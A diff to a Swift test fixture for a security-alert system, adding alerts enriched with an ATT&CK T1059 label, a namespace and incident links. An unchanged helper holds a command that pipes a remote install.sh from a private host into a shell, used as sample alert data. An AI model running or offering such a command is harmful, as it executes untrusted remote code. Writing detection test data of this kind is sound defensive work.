@@ -31,6 +31,25 @@ enum Alerts {
             content: .alerts(batch), fates: [], firstOutput: 1, outputCount: count)
     }
 
+    /// The same with a group, an incident, ATT&CK's names and a namespace noted for every alert.
+    static func enriched(_ form: Form) -> DecidedEntry {
+        let plain = entry(form)
+        var notes = EntryNotes()
+        let attack = #"[{"tactic":"execution"},{"technique":"T1059","name":"Command and Scripting Interpreter"}]"#
+        let (attackName, namespace) = (FieldName("attack"), FieldName("k8s.ns.name"))
+        for index in 0 ..< count {
+            notes.added.add(namespace, "shop".utf8Span.span)
+            notes.added.add(attackName, attack.utf8Span.span, kind: .json)
+            notes.added.endAlert()
+            notes.marks.append(AlertMark(subject: 1, variant: 1, count: 1, flags: []))
+            notes.links.append(IncidentLink(alert: index, incident: SubjectID(high: 3, low: 4)))
+        }
+        notes.subjects = [.group(SubjectID(high: 1, low: 2))]
+        return DecidedEntry(
+            installation: plain.installation, epoch: plain.epoch, place: plain.place, source: plain.source,
+            content: plain.content, fates: [], notes: notes, firstOutput: 1, outputCount: count)
+    }
+
     static func command(_ number: Int) -> String {
         "bash -c curl -s http://10.0.0.\(number % 250):8080/install.sh | sh"
     }
